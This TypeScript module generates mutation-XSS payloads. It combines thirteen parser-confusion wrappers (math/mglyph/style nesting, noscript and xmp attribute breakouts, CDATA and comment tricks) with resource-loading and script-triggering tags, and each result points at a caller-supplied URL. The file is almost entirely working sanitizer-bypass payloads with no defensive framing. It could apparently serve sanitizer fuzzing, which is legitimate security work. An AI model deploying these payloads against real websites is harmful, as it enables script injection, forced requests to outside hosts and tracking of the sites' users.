/** Texts that browsers read otherwise the second time, or with a doctype, or in another vocabulary. `U` is where each would lead. */
const inner = [
  `<iframe src="U"></iframe>`,
  `<img src="U" onerror="top.bocor=1">`,
  `<a href="U">a</a><link rel=preconnect href="U">`,
  `<link rel=dns-prefetch href="U"><link rel=prefetch href="U"><link rel=stylesheet href="U">`,
  `<style>@import "U"; body{background:url(U)}</style>`,
  `<meta http-equiv=refresh content="0;url=U"><object data="U"></object><embed src="U">`,
  `<svg><image href="U"/><use href="U#a"/><script href="U"></script></svg>`,
  `<video src="U" poster="U"></video><audio src="U"></audio><input type=image src="U">`
];

/** What is around: `X` is put where a reader takes it for text, or for what it is not. */
const around = [
  `<math><mtext><p><table></table><mglyph><style><p>X</style></mglyph></p></mtext></math>`,
  `<math><mtext><table><mglyph><style><!--</style>X-->`,
  `<form><math><mtext></form><form><mglyph><style></math>X`,
  `<svg></p><style><a id="</style>X">`,
  `<svg><desc><title><style>X</style></title></desc></svg>`,
  `<noscript><p title="</noscript>X">`,
  `<math><annotation-xml encoding="text/html"><style>X</style></annotation-xml></math>`,
  `<svg><foreignObject><p></svg>X</p></foreignObject></svg>`,
  `<template><table><tr><td>X</template>X`,
  `<xmp><p title="</xmp>X"></xmp>`,
  `<!--><p>--!>X`,
  `<select><option><style></select>X</style></select>`,
  `<svg><![CDATA[><p title="]]>X">`
];

export const mutations = (url: string): string[] =>
  around.flatMap((outer) => inner.map((text) => outer.replaceAll("X", text).replaceAll("U", url)));
